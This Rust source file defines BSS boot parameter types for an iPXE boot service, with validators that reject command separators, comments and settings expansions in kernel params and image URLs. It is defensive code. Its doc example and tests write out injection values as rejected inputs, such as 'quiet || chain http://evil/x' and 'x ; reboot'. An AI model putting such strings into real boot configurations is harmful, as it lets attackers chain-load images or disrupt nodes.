//! BSS (`/boot/v1`) boot parameters, with the JSON keys of BSS's `BootParams`, and the checks
//! that keep operator text from changing the iPXE script it is rendered into.
//!
//! ```
//! use cairn_protocols::{BootKey, BootParameters, from_json_slice};
//!
//! let bp: BootParameters = from_json_slice(br#"{"hosts":["Compute"],
//!     "kernel":"http://10.0.0.1/vmlinuz","initrd":"http://10.0.0.1/initrd.img",
//!     "params":"console=ttyS0,115200 ip=dhcp"}"#)?;
//! bp.validate()?;
//! assert_eq!(bp.hosts, [BootKey::Role("Compute".into())]);
//!
//! let bad: BootParameters = from_json_slice(br#"{"hosts":["Default"],
//!     "kernel":"http://h/k","params":"quiet || chain http://evil/x"}"#)?;
//! assert!(bad.validate().unwrap_err().to_string().starts_with("params: \"||\" is an iPXE command separator"));
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```
//!
//! **Settings expansion.** BSS substitutes `${SPIRE_JOIN_TOKEN}` itself and leaves any other
//! `${...}` to iPXE, which replaces it with one of the firmware's settings (DHCP options, the
//! `username`/`password` used for HTTP, SMBIOS serials) in the kernel command line or image
//! URL, re-expanding the result. Cairn rejects `${` in params, kernel and initrd: an operator
//! value is booted as written or not accepted; the only `${...}` in a Cairn script is the
//! `${buildarch}` Cairn itself writes for unknown nodes.

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};
use utoipa::ToSchema;

use crate::cloudinit::PhoneHome;
use crate::json::null_as_default;
use crate::mac::MacAddr;

mod key;
mod text;

pub use key::{BootKey, KNOWN_ROLES, MAX_ARCH_LEN, validate_arch};
pub use text::FieldError;
pub(crate) use text::{check_len, check_single_line};

/// Longest accepted `params` (Linux's own command line limit is 2048 to 4096 bytes by
/// architecture; Cairn adds `xname=`, `nid=`, `BOOTIF=` and `ds=` after it).
pub const MAX_PARAMS_LEN: usize = 4096;
/// Longest accepted `kernel` or `initrd` URL or path.
pub const MAX_IMAGE_PATH_LEN: usize = 2048;
/// Most selectors (`hosts` + `macs` + `nids`) in one body.
pub const MAX_SELECTORS: usize = 10_000;
/// Largest BSS `cloud-init.meta-data` or `cloud-init.user-data`, as JSON.
pub const MAX_BSS_CLOUD_INIT_LEN: usize = 64 * 1024;

/// BSS `BootParams`: `{hosts, macs, nids, params, kernel, initrd, cloud-init}`.
///
/// Selectors: `hosts` ([`BootKey`]s), `macs` (any usual MAC form, normalized to lower-case
/// colons) and `nids`. Decoding checks the selectors; [`BootParameters::validate`] checks the
/// rest. Empty fields are omitted from JSON, and `null` is read as empty.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize, ToSchema)]
pub struct BootParameters {
    /// Node xnames, roles, `Default`, `Global` or `Unknown-<arch>`.
    #[serde(
        default,
        deserialize_with = "null_as_default",
        skip_serializing_if = "Vec::is_empty"
    )]
    pub hosts: Vec<BootKey>,
    /// MAC addresses of nodes.
    #[serde(
        default,
        deserialize_with = "null_as_default",
        skip_serializing_if = "Vec::is_empty"
    )]
    pub macs: Vec<MacAddr>,
    /// Node IDs.
    #[serde(
        default,
        deserialize_with = "null_as_default",
        skip_serializing_if = "Vec::is_empty"
    )]
    pub nids: Vec<i64>,
    /// Kernel command line parameters, space separated.
    #[serde(
        default,
        deserialize_with = "null_as_default",
        skip_serializing_if = "String::is_empty"
    )]
    pub params: String,
    /// Kernel URL (`http`, `https`, `tftp`) or path (relative to the script's URL).
    #[serde(
        default,
        deserialize_with = "null_as_default",
        skip_serializing_if = "String::is_empty"
    )]
    pub kernel: String,
    /// Initrd URL or path, as `kernel`.
    #[serde(
        default,
        deserialize_with = "null_as_default",
        skip_serializing_if = "String::is_empty"
    )]
    pub initrd: String,
    /// BSS's cloud-init data, stored and returned as given.
    #[serde(rename = "cloud-init", default, deserialize_with = "null_as_default")]
    #[serde(skip_serializing_if = "BssCloudInit::is_empty")]
    pub cloud_init: BssCloudInit,
}

/// BSS `CloudInit`: `{meta-data, user-data, phone-home}`.
///
/// Cairn stores and returns it for BSS clients; its node-facing cloud-init routes are fed by
/// the cloud-init admin data instead ([`crate::cloudinit`]), as OpenCHAMI's cloud-init server is.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize, ToSchema)]
pub struct BssCloudInit {
    /// Free-form meta-data.
    #[serde(rename = "meta-data", default, skip_serializing_if = "Option::is_none")]
    #[schema(value_type = Option<Object>)]
    pub meta_data: Option<Map<String, Value>>,
    /// Free-form user-data.
    #[serde(rename = "user-data", default, skip_serializing_if = "Option::is_none")]
    #[schema(value_type = Option<Object>)]
    pub user_data: Option<Map<String, Value>>,
    /// What the node last reported through phone-home.
    #[serde(rename = "phone-home", default, deserialize_with = "null_as_default")]
    #[serde(skip_serializing_if = "PhoneHome::is_empty")]
    pub phone_home: PhoneHome,
}

impl BssCloudInit {
    /// Nothing set.
    pub fn is_empty(&self) -> bool {
        self.meta_data.is_none() && self.user_data.is_none() && self.phone_home.is_empty()
    }
}

/// What is stored under one [`BootKey`]: BSS's per-host boot data without the selectors.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize, ToSchema)]
pub struct BootEntry {
    /// Kernel command line parameters.
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub params: String,
    /// Kernel URL or path; an entry without one cannot boot anything.
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub kernel: String,
    /// Initrd URL or path, if any.
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub initrd: String,
    /// BSS cloud-init data.
    #[serde(
        rename = "cloud-init",
        default,
        skip_serializing_if = "BssCloudInit::is_empty"
    )]
    pub cloud_init: BssCloudInit,
}

impl BootEntry {
    /// This entry as BSS returns it from `GET /bootparameters`: `hosts` = the one key.
    pub fn to_parameters(&self, key: BootKey) -> BootParameters {
        BootParameters {
            hosts: vec![key],
            macs: Vec::new(),
            nids: Vec::new(),
            params: self.params.clone(),
            kernel: self.kernel.clone(),
            initrd: self.initrd.clone(),
            cloud_init: self.cloud_init.clone(),
        }
    }
}

impl BootParameters {
    /// Whether any of `hosts`, `macs`, `nids` is given.
    pub fn has_selectors(&self) -> bool {
        !(self.hosts.is_empty() && self.macs.is_empty() && self.nids.is_empty())
    }

    /// The boot data without the selectors, as stored per key.
    pub fn entry(&self) -> BootEntry {
        BootEntry {
            params: self.params.clone(),
            kernel: self.kernel.clone(),
            initrd: self.initrd.clone(),
            cloud_init: self.cloud_init.clone(),
        }
    }

    /// Checks every field (selectors were checked while decoding): sizes, NIDs, and that
    /// params, kernel and initrd render as exactly the words they are (see the module doc).
    /// The error names the field; [`FieldError::status`] is 413 for sizes, else 400.
    pub fn validate(&self) -> Result<(), FieldError> {
        let selectors = self.hosts.len() + self.macs.len() + self.nids.len();
        if selectors > MAX_SELECTORS {
            return Err(FieldError {
                field: "hosts".into(),
                reason: format!(
                    "{selectors} hosts, macs and nids in one request, at most {MAX_SELECTORS}"
                ),
                too_large: true,
            });
        }
        if let Some((i, nid)) = self.nids.iter().enumerate().find(|(_, n)| **n < 0) {
            return Err(FieldError::invalid(
                format!("nids[{i}]"),
                format!("{nid} is negative"),
            ));
        }
        validate_params(&self.params)?;
        validate_image_path("kernel", &self.kernel)?;
        validate_image_path("initrd", &self.initrd)?;
        for (field, map) in [
            ("cloud-init.meta-data", &self.cloud_init.meta_data),
            ("cloud-init.user-data", &self.cloud_init.user_data),
        ] {
            if let Some(map) = map {
                let len = serde_json::to_vec(map)
                    .map(|v| v.len())
                    .unwrap_or(usize::MAX);
                if len > MAX_BSS_CLOUD_INIT_LEN {
                    return Err(FieldError::too_large(field, len, MAX_BSS_CLOUD_INIT_LEN));
                }
            }
        }
        self.cloud_init
            .phone_home
            .validate()
            .map_err(|e| FieldError {
                field: format!("cloud-init.phone-home.{}", e.field),
                ..e
            })
    }
}

/// Checks kernel parameters: at most [`MAX_PARAMS_LEN`] bytes of printable ASCII, and no word
/// that iPXE treats as a command separator (`||`, `&&`, `;`), a comment (`#...`, including
/// `#!ipxe`) or a settings expansion (`${...}`). Errors name the field `params`.
pub fn validate_params(params: &str) -> Result<(), FieldError> {
    check_len("params", params, MAX_PARAMS_LEN)?;
    text::check_ipxe_words("params", params)
}

/// Checks a `kernel` or `initrd` value (`field` names it); empty means unset and passes.
///
/// Accepted: `http://host/...`, `https://host/...`, `tftp://host/...`, or a path, absolute
/// (`/images/vmlinuz`) or relative to the bootscript URL (`images/vmlinuz`), as BSS allows.
/// Refused: spaces or control characters, `${`, a leading `#`, `-` or `:`, other schemes
/// (`s3://` URLs are presigned by BSS; give Cairn the HTTP URL), more than
/// [`MAX_IMAGE_PATH_LEN`] bytes.
pub fn validate_image_path(field: &str, value: &str) -> Result<(), FieldError> {
    if value.is_empty() {
        return Ok(());
    }
    check_len(field, value, MAX_IMAGE_PATH_LEN)?;
    text::check_printable(field, value, false)?;
    text::check_word(field, value)?;
    if value.starts_with('-') || value.starts_with(':') {
        return Err(FieldError::invalid(
            field,
            format!(
                "{value:?} must not start with '-' or ':' (iPXE would read an option or a label)"
            ),
        ));
    }
    let before_slash = value.split('/').next().unwrap_or_default();
    let Some((scheme, _)) = before_slash.split_once(':') else {
        return Ok(()); // a path
    };
    let scheme = scheme.to_ascii_lowercase();
    if !matches!(scheme.as_str(), "http" | "https" | "tftp") {
        let hint = if scheme == "s3" {
            " (BSS presigns s3:// URLs; give Cairn an http(s) URL)"
        } else {
            ""
        };
        return Err(FieldError::invalid(
            field,
            format!("scheme {scheme:?} is not supported: use http, https, tftp or a path{hint}"),
        ));
    }
    let host = value
        .get(scheme.len()..)
        .and_then(|rest| rest.strip_prefix("://"))
        .map(|rest| rest.split(['/', '?']).next().unwrap_or_default());
    match host {
        Some(h) if !h.is_empty() => Ok(()),
        _ => Err(FieldError::invalid(
            field,
            format!("{value:?} is not a URL of the form {scheme}://host/path"),
        )),
    }
}

/// An image path as [`BootData`] reports it: `{path, params}`.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize, ToSchema)]
pub struct ImageData {
    /// URL or path of the image.
    pub path: String,
    /// Parameters tied to the image (BSS's per-image params; Cairn never sets them).
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub params: String,
}

/// The resolved boot data of one request, as `GET /boot/v1/bootscript?json=1` returns it:
/// `params` is the whole command line the script passes to the kernel (after `initrd=initrd`
/// and the `xname=`, `nid=`, `BOOTIF=`, `ds=` additions).
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize, ToSchema)]
pub struct BootData {
    /// The kernel command line.
    pub params: String,
    /// The kernel.
    pub kernel: ImageData,
    /// The initrd (empty `path` when there is none).
    pub initrd: ImageData,
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::from_json_slice;

    #[test]
    fn json_keys_are_bss_keys() {
        let bp: BootParameters = from_json_slice(
            br#"{"hosts":["x3000c0s5b0n0","compute"],"macs":["AA-BB-CC-DD-EE-FF"],"nids":[7],
                "params":"quiet","kernel":"http://h/k","initrd":"http://h/i",
                "cloud-init":{"meta-data":{"a":1},"user-data":null,"phone-home":{"hostname":"n1"}}}"#,
        )
        .unwrap();
        bp.validate().unwrap();
        assert_eq!(
            serde_json::to_value(&bp).unwrap(),
            serde_json::json!({"hosts":["x3000c0s5b0n0","Compute"],"macs":["aa:bb:cc:dd:ee:ff"],
                "nids":[7],"params":"quiet","kernel":"http://h/k","initrd":"http://h/i",
                "cloud-init":{"meta-data":{"a":1},"phone-home":{"hostname":"n1"}}})
        );
        let empty: BootParameters =
            from_json_slice(br#"{"hosts":null,"params":null,"cloud-init":null}"#).unwrap();
        assert_eq!(serde_json::to_string(&empty).unwrap(), "{}");
    }

    #[test]
    fn decode_errors_name_the_selector() {
        let e = from_json_slice::<BootParameters>(br#"{"hosts":["Default","x1b0"]}"#).unwrap_err();
        assert!(e.to_string().starts_with("hosts[1]: "), "{e}");
        let e = from_json_slice::<BootParameters>(br#"{"macs":["zz"]}"#).unwrap_err();
        assert!(e.to_string().starts_with("macs[0]: invalid MAC"), "{e}");
    }

    #[test]
    fn image_paths() {
        for ok in [
            "http://h/k",
            "HTTPS://h:8080/a/b?x=1&y=2",
            "tftp://10.0.0.1/k",
            "/boot/k",
            "k",
            "a/b:c",
        ] {
            validate_image_path("kernel", ok).unwrap();
        }
        for (bad, why) in [
            ("s3://bucket/k", "presigns"),
            ("file:///k", "scheme \"file\""),
            ("http:///k", "not a URL"),
            ("http://h/a b", "space"),
            ("http://h/${x}", "${"),
            ("-n", "start with '-'"),
            ("#!ipxe", "comment"),
            ("||", "separator"),
            ("http://h/\nchain", "newline"),
        ] {
            let e = validate_image_path("initrd", bad).unwrap_err().to_string();
            assert!(e.starts_with("initrd: ") && e.contains(why), "{bad:?}: {e}");
        }
    }

    #[test]
    fn validate_names_fields_and_sizes() {
        let mut bp = BootParameters {
            params: "a".repeat(MAX_PARAMS_LEN + 1),
            ..Default::default()
        };
        assert_eq!(bp.validate().unwrap_err().status(), 413);
        bp.params = "x ; reboot".into();
        assert!(
            bp.validate()
                .unwrap_err()
                .to_string()
                .starts_with("params: \";\"")
        );
        bp.params.clear();
        bp.nids = vec![1, -2];
        assert_eq!(bp.validate().unwrap_err().field, "nids[1]");
    }
}
